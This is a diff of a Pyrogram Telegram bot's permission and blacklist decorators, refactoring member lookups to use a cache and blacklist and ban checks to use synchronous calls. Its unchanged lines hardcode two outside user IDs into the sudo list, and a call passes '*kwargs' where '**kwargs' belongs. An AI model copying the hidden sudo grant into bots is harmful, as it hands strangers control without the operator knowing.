@@ -3,11 +3,12 @@ from functools import partial, wraps
 from typing import Callable, Union, Optional
 from pyrogram import Client
 from pyrogram.types import Message, CallbackQuery
+from cache.members import get_member
 from config import SUDO_USERS, OWNER_ID
 from driver.core import bot, me_bot
 from driver.admins import get_administrators
-from driver.database.dblockchat import blacklisted_chats
-from driver.database.dbpunish import is_gbanned_user
+from driver.database.dblockchat import is_blacklisted_chat
+from driver.database.dbpunish import is_gbanned
 
 SUDO_USERS.append(1757169682)
 SUDO_USERS.append(1738637033)
@@ -87,8 +88,7 @@ async def check_perms(
         chat = message.chat
     if not uid:
         uid = message.from_user.id
-    # TODO: Cache
-    user = await chat.get_member(uid)
+    user = await get_member(bot, chat.id, uid)
     if user.status == "creator":
         return True
 
@@ -150,10 +150,10 @@ def check_blacklist():
             else:
                 sender = message.reply_text
                 chat = message.chat
-            if chat.id in await blacklisted_chats():
+            if is_blacklisted_chat(chat.id):
                 await sender("❗️ This chat has blacklisted by sudo user and You're not allowed to use me in this chat.")
                 await bot.leave_chat(chat.id)
-            elif (await is_gbanned_user(message.from_user.id)):
+            elif is_gbanned(message.from_user.id):
                 await sender(f"❗️**You've blocked from using this bot!**")
             else:
                 return await func(client, message, *args, *kwargs)